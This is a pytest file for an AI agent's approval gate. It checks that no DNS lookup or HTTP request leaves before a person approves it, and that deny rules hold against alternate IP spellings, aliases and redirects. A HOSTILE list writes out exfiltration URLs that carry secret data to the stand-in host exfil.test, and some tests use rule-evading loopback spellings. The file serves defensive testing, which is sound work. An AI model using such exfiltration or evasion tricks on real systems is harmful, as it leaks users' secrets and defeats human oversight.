"""Nothing leaves before approval, DNS included; host deny rules cover the addresses a name
resolves to and IP literals of a named host. Through the real gate, with a resolver that records
every lookup, loopback servers and the network guard."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from assistant.agent.approval import Decision, ModeApprover
from assistant.agent.event_log import EventLog
from assistant.agent.gate import Gate
from assistant.agent.policy import Policy
from assistant.config import DenyRule
from assistant.runtime import standing_unlocks
from tests.support import http_servers
from tests.support.approvers import ScriptedApprover
from tests.support.http_servers import FakeDNS, LoopbackServer, NetworkGuard, Reply
from tools.base import ToolContext
from tools.http_request import HttpRequestTool
from tools.workspace import Workspace

net_guard = http_servers.net_guard
http_server = http_servers.http_server


class Store:
    def __init__(self) -> None:
        self.events: list[tuple[str, dict[str, Any]]] = []

    def append(self, session_id: str, kind: str, payload: dict[str, Any]) -> None:
        self.events.append((kind, payload))

    def put_blob(self, data: bytes) -> str:
        return "blob"

    def of(self, kind: str) -> list[dict[str, Any]]:
        return [p for k, p in self.events if k == kind]


class RuleDNS:
    """The policy's lookup of a deny rule's own name, recorded."""

    def __init__(self, names: dict[str, list[str]]) -> None:
        self.names = names
        self.calls: list[str] = []

    def __call__(self, name: str) -> list[str]:
        self.calls.append(name)
        return self.names.get(name, [])


def make_gate(
    ws: Path,
    approver: Any,
    dns: FakeDNS,
    *,
    allow_hosts: frozenset[str] = frozenset(),
    deny: tuple[DenyRule, ...] = (),
    rule_dns: RuleDNS | None = None,
) -> tuple[Gate, Store]:
    ctx = ToolContext(workspace=Workspace(ws))
    store = Store()
    policy = Policy(
        deny, resolve_name=rule_dns or RuleDNS({}), standing=standing_unlocks(allow_hosts)
    )
    tools = {"http_request": HttpRequestTool(resolver=dns)}
    return Gate(tools, ctx, policy, approver, EventLog(store, "s1")), store


HOSTILE = [
    "http://{data}.exfil.test/",
    "https://{data}.exfil.test/x",
    "http://exfil.test/?q={data}",
    "http://{data}.exfil.test:8080/",
    "http://exfil-{data}.test/",
]


async def test_approve_never_looks_nothing_up_and_sends_nothing(
    workspace_dir: Path, net_guard: NetworkGuard, http_server: LoopbackServer
) -> None:
    dns = FakeDNS({"exfil.test": ["127.0.0.1"]})
    gate, store = make_gate(workspace_dir, ModeApprover("never"), dns)
    for url in HOSTILE:
        outcome = await gate.execute("http_request", json.dumps({"url": url.format(data="s3cr3t")}))
        assert outcome.status == "denied", outcome
    outcome = await gate.execute("http_request", json.dumps({"url": http_server.url("/")}))
    assert outcome.status == "denied"
    assert dns.calls == [] and net_guard.attempts == [] and http_server.seen == []
    assert [p["by"] for p in store.of("action.decided")] == ["--approve never"] * 6


async def test_the_name_is_looked_up_only_after_the_person_approved(
    workspace_dir: Path, http_server: LoopbackServer
) -> None:
    dns = FakeDNS({"api.test": ["127.0.0.1"]})
    lookups_when_asked: list[list[str]] = []

    def decide(action: object) -> Decision:
        lookups_when_asked.append(list(dns.calls))
        return Decision("approve")

    key = f"api.test:{http_server.port}"
    gate, _ = make_gate(workspace_dir, ScriptedApprover(decide), dns, allow_hosts={key})
    url = f"http://api.test:{http_server.port}/"
    outcome = await gate.execute("http_request", json.dumps({"url": url, "method": "POST"}))
    assert outcome.status == "done", outcome.text
    assert lookups_when_asked == [[]] and dns.calls == ["api.test"]
    assert [s.method for s in http_server.seen] == ["POST"]


async def test_a_private_answer_is_refused_then_a_person_sees_it_and_can_allow_it(
    workspace_dir: Path, http_server: LoopbackServer, net_guard: NetworkGuard
) -> None:
    dns = FakeDNS({"intranet.test": ["127.0.0.1"]})
    approver = ScriptedApprover([Decision("approve"), Decision("approve")])
    gate, store = make_gate(workspace_dir, approver, dns)
    args = json.dumps({"url": f"http://intranet.test:{http_server.port}/wiki"})

    first = await gate.execute("http_request", args)
    assert first.status == "failed"
    assert "resolves to private address 127.0.0.1 (loopback)" in first.text
    assert "nothing was sent" in first.text and http_server.seen == []
    assert store.of("action.proposed")[0]["needs_person"] is None

    second = await gate.execute("http_request", args)  # the model asks again
    proposed = store.of("action.proposed")[1]
    assert proposed["needs_person"].startswith(
        f"intranet.test:{http_server.port} resolves to private address 127.0.0.1"
    )
    assert "PRIVATE ADDRESS" in proposed["preview"]["text"]
    assert second.status == "done", second.text  # a person approved a preview naming it
    assert [s.path for s in http_server.seen] == ["/wiki"]
    assert dns.calls == ["intranet.test", "intranet.test"]  # once per approved run, never in plan


async def test_approve_all_never_unlocks_a_private_answer(
    workspace_dir: Path, http_server: LoopbackServer
) -> None:
    dns = FakeDNS({"intranet.test": ["127.0.0.1"]})
    gate, _ = make_gate(workspace_dir, ModeApprover("all"), dns)
    args = json.dumps({"url": f"http://intranet.test:{http_server.port}/"})
    assert (await gate.execute("http_request", args)).status == "failed"
    again = await gate.execute("http_request", args)
    assert again.status == "denied" and "only a person can allow that" in again.text
    assert http_server.seen == []


async def test_a_cidr_deny_rule_covers_the_address_a_name_resolves_to(
    workspace_dir: Path, http_server: LoopbackServer
) -> None:
    key = f"api.test:{http_server.port}"
    dns = FakeDNS({"api.test": ["127.0.0.1"]})
    rule = DenyRule(tool="http_request", target="host:127.0.0.0/8:*", reason="no loopback")
    gate, store = make_gate(
        workspace_dir, ModeApprover("all"), dns, allow_hosts={key}, deny=(rule,)
    )
    outcome = await gate.execute("http_request", json.dumps({"url": f"http://{key}/"}))
    assert outcome.status == "failed"
    assert "refused by a deny rule: no loopback (address 127.0.0.1)" in outcome.text
    assert http_server.seen == []


@pytest.mark.parametrize("spelling", ["127.0.0.1", "2130706433", "127.1", "[::ffff:127.0.0.1]"])
async def test_a_rule_naming_a_host_covers_its_addresses_in_any_spelling(
    spelling: str, workspace_dir: Path, http_server: LoopbackServer
) -> None:
    """The rule names db.test; the model asks for its address instead. The policy looks up the
    rule's own name, only when the approved request runs."""
    rule_dns = RuleDNS({"db.test": ["127.0.0.1"]})
    rule = DenyRule(tool="http_request", target="host:db.test:*", reason="the database")
    host = spelling.strip("[]")
    allow = frozenset({f"{host}:{http_server.port}"})
    approver = ScriptedApprover([Decision("approve")])
    gate, _ = make_gate(
        workspace_dir, approver, FakeDNS(), allow_hosts=allow, deny=(rule,), rule_dns=rule_dns
    )
    url = f"http://{spelling}:{http_server.port}/"
    outcome = await gate.execute("http_request", json.dumps({"url": url, "method": "POST"}))
    assert len(approver.seen) == 1  # planning did not know, nor look anything up
    assert outcome.status == "failed" and "refused by a deny rule: the database" in outcome.text
    assert rule_dns.calls and set(rule_dns.calls) == {"db.test"}
    assert http_server.seen == []


async def test_a_rule_naming_a_host_covers_another_name_for_the_same_address(
    workspace_dir: Path, http_server: LoopbackServer
) -> None:
    rule_dns = RuleDNS({"db.test": ["127.0.0.1"]})
    rule = DenyRule(tool="http_request", target="host:db.test:*", reason="the database")
    key = f"alias.test:{http_server.port}"
    gate, _ = make_gate(
        workspace_dir,
        ModeApprover("all"),
        FakeDNS({"alias.test": ["127.0.0.1"]}),
        allow_hosts={key},
        deny=(rule,),
        rule_dns=rule_dns,
    )
    outcome = await gate.execute("http_request", json.dumps({"url": f"http://{key}/"}))
    assert "refused by a deny rule: the database" in outcome.text
    assert http_server.seen == []


async def test_a_redirect_to_a_denied_host_or_address_is_not_followed(
    workspace_dir: Path, http_server: LoopbackServer
) -> None:
    with LoopbackServer() as other:
        http_server.routes["/name"] = lambda seen: Reply(
            302, [("Location", other.url("/", "db.test"))]
        )
        http_server.routes["/addr"] = lambda seen: Reply(302, [("Location", other.url("/"))])
        rule = DenyRule(tool="http_request", target=f"host:*:{other.port}", reason="other port")
        allow = frozenset({http_server.key, other.key, f"db.test:{other.port}"})
        gate, _ = make_gate(
            workspace_dir,
            ModeApprover("all"),
            FakeDNS({"db.test": ["127.0.0.1"]}),
            allow_hosts=allow,
            deny=(rule,),
        )
        for path in ("/name", "/addr"):
            outcome = await gate.execute("http_request", json.dumps({"url": http_server.url(path)}))
            assert "which a deny rule refuses: other port" in outcome.text, outcome.text
        assert other.seen == []


async def test_planning_asks_the_rules_about_names_as_written_only(
    workspace_dir: Path,
) -> None:
    """While planning, a rule's name is never looked up (that could be slow or leak timing)."""
    rule_dns = RuleDNS({"db.test": ["10.0.0.5"]})
    rule = DenyRule(tool="http_request", target="host:db.test:*", reason="the database")
    gate, _ = make_gate(
        workspace_dir, ModeApprover("never"), FakeDNS(), deny=(rule,), rule_dns=rule_dns
    )
    outcome = await gate.execute("http_request", json.dumps({"url": "http://10.0.0.5/"}))
    assert outcome.status == "denied" and rule_dns.calls == []
    denied = await gate.execute("http_request", json.dumps({"url": "http://db.test/"}))
    assert denied.status == "denied" and "the database" in denied.text
